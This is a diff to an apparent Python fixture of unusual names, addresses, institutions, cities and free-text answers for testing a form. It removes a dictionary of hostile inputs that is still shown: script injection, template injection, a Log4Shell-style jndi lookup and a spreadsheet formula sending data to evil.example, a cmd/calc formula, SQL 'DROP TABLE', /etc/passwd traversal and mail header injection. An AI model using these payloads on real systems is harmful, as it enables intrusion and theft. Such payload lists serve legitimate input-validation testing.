@@ -1,7 +1,8 @@
 """
-Answers that are unusual and real, a line or a column each, and answers that mean harm.
+Answers that are unusual and real: names, addresses, telephone numbers, places, and words.
 
-Every person and every place is plainly made up. Nobody here is refused, and no letter is altered.
+Every person and every institution is plainly made up; the cities are there. Nobody here is refused,
+and no letter is altered.
 """
 
 
@@ -27,7 +28,8 @@ Trần Ví│Kahuʻōhiʻa Laʻana│Γεωργία Παράδειγμα│Ив�
 અનિતા ઉદાહરણ│அனிதா எடுத்துக்காட்டு│అనిత ఉదాహరణ│ಅನಿತಾ ಉದಾಹರಣೆ│അനിത ഉദാഹരണം│අනිතා උදාහරණය
 สมชาย ตัวอย่าง│ສົມໃຈ ຕົວຢ່າງ│မောင် ဥပမာ│សុខ ឧទាហរណ៍│བསྟན་འཛིན་དཔེ│አበበ ምሳሌ│李例│王小例│歐陽範例
 山田例子│やまだ れい│ヤマダ レイ│김예시│남궁예시│ᠮᠣᠩᠭᠣᠯ│ᏣᎳᎩ│ᐃᓄᒃ│𐐏𐐨𐑊𐐬│𠮷野例│X Æ Example│Jr
-Mr. Example│Dr Example│Example 2nd│Robin example│ROBIN EXAMPLE│ßtefan
+Mr. Example│Dr Example│Example 2nd│Robin example│ROBIN EXAMPLE│ßtefan│Robin Example (she/her)
+María de los Ángeles Inmaculada Concepción Ejemplo y Muestra de la Prueba, viuda de Patrón│Ex. M.-P.
 """)
 ADDRESSES = listed("""
 robin@example.org│r@example.org│robin+wsrs@example.org│robin+wsrs+2026@example.org
@@ -54,36 +56,24 @@ Example Hospital│X│=Example Imaging│+Plus Radiology│-minus- Imaging│@H
 Example!│2nd Opinion Radiology│1.5T MRI│Example Hospital (R1–R4), Dept. of Radiology│`Example`
 ~Example~│*Example*│_Example_│Example | Muster
 """)
-
-# What an attacker writes where a person writes a name, by the program that is to be deceived.
-HOSTILE = {
-    "script": "<script>alert(1)</script>",
-    "attribute": '" autofocus onfocus="alert(1)" x="',
-    "attribute in apostrophes": "' onmouseover='alert(1)' x='",
-    "picture": "<img src=x onerror=alert(1)>",
-    "end of the page": "</textarea></title></style></main></body></html><h1>x</h1>",
-    "comment": "<!-- --><!--",
-    "section": "]]><![CDATA[",
-    "drawing": "<svg/onload=alert(1)><a xlink:href='javascript:alert(1)'>",
-    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "form": '</form><form action="https://evil.example"><input name="p">',
-    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
-    "template": "{{ 7 * 7 }}{% for x in range(9) %}x{% endfor %}{# x #}",
-    "template that looks round": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
-    "format": "%s%n{0.__class__}{coordinators}${7*7}",
-    "entity": "&lt;script&gt;&quot;&#39;&#x27;&amp;",
-    "link": "javascript:alert(1)//https://evil.example",
-    "encoded word": "=?utf-8?Q?=0D=0ABcc:_x@evil.example=0D=0A?=",
-    "header": "x\r\nBcc: victim@example.org\r\n\r\n<html>",
-    "end of a mail": ".\r\nMAIL FROM:<x@evil.example>\r\n--===============boundary==--",
-    "line separators": "one\u2028two\u2029three\x85four\x0bfive",
-    "backwards": "\u202egnp.exe\u2066 \u200f",
-    "formula": '=HYPERLINK("https://evil.example?"&A1,"x")',
-    "formula of another kind": "@SUM(1+1)*cmd|' /C calc'!A0",
-    "full-width formula": "＝1+1",
-    "query": "'; DROP TABLE applications; --",
-    "path": "../../../../etc/passwd\x00.html",
-    "lookup": "${jndi:ldap://evil.example/a}",
-    "long": "W" * 80,
-}
+CITIES = listed("""
+Walla Walla│Sea-Tac│Coeur d’Alene│Lāʻie│Å│Y│Ho-Ho-Kus│Saint-Louis-du-Ha! Ha!│'s-Hertogenbosch
+Truth or Consequences, NM│100 Mile House│Seattle/Tacoma│Zürich (ZH)│Kraków│İzmir│México, D.F.│東京都
+القاهرة│Москва│แม่สอด│서울│98101│N. of Spokane & E. of it│“the Peninsula”
+""")
+# What people write where there is room: several lines, lists, quotations, other scripts, signs.
+WORDS = (
+    "Yes.",
+    "To read 50+ studies/day & still be home at 6 :-)\n\nAnd not to mind if I am not.",
+    "1. Boards\n2. Job\n  a. academic?\n  b. private?\n3. Sleep",
+    "- find a mentor\n- <3 radiology\n- = happy",
+    "=> Decide between MSK and IR; P(IR) > 0.5, p < 0.05",
+    "“Somebody” once said: 'it’s fine'—it wasn’t…",
+    "My page is https://radiology.example/?a=1&b=2#x, or mail me at robin@example.org",
+    "أريد أن أتعلّم من شخص لديه خبرة، ثم أساعد غيري (MRI).",
+    "放射線科で働きながら、研究もしたいです。",
+    "Chcę się uczyć — i dzielić tym, czego się nauczę. 👩🏽‍⚕️🩻",
+    "\u0939\u093f\u0928\u094d\u0926\u0940 \u092e\u0947\u0902 \u092c\u093e\u0924",
+    "SELECT a subspecialty; DROP the rest. {{ Really }} %s ${me} \\o/",
+    "+1 for evenings\n@ home on weekends\n* no nights *",
+)
